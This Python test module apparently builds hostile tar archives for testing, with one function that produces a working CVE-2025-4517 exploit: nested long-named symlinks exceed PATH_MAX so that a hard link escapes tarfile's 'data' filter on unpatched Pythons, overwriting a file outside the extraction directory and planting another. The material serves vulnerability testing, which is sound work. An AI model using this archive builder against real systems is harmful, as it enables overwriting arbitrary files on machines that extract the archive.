"""Hostile tar archives, built at test time: the CVE-2025-4517 layout that passes tarfile's
``data`` filter on Pythons without the 2025 fixes (3.11.7, Debian 12's 3.11.2, ...)."""

from __future__ import annotations

import io
import sys
import tarfile

# A long directory name: 16 of them nested exceed PATH_MAX, where realpath() gives up.
_COMPONENT = "d" * (55 if sys.platform == "darwin" else 247)
_STEPS = "abcdefghijklmnop"


def cve_2025_4517(victim: str, planted: str, payload: bytes, prefix: str = "") -> bytes:
    """A gzipped tar that, extracted into DEST by a vulnerable filter, overwrites the existing
    file ``DEST/../<victim>`` through a hard link and creates ``DEST/../<planted>``.

    ``a -> ddd…``, ``ddd…/b -> ddd…``, … nest links whose expansion exceeds PATH_MAX; the link
    ``a/b/…/p/lll -> ../../…`` leads back to DEST physically, so ``escape -> a/…/lll/..`` is
    DEST's parent, while a realpath() that gives up sees it lexically inside. ``prefix`` puts
    every member under a top directory (``python/`` for an interpreter archive)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:

        def add(name: str, kind: bytes, linkname: str = "", data: bytes | None = None) -> None:
            info = tarfile.TarInfo(prefix + name)
            info.type = kind
            info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
            info.linkname = linkname
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)

        if prefix:
            add("", tarfile.DIRTYPE)
        path = ""
        for step in _STEPS:
            add(path + _COMPONENT, tarfile.DIRTYPE)
            add(path + step, tarfile.SYMTYPE, _COMPONENT)
            path += _COMPONENT + "/"
        link = "/".join(_STEPS) + "/" + "l" * 254
        add(link, tarfile.SYMTYPE, "/".join([".."] * len(_STEPS)))
        add("escape", tarfile.SYMTYPE, link + "/..")
        add("victimlink", tarfile.LNKTYPE, prefix + "escape/" + victim)
        add("victimlink", tarfile.REGTYPE, data=payload)
        add("escape/" + planted, tarfile.REGTYPE, data=payload)
    return buf.getvalue()
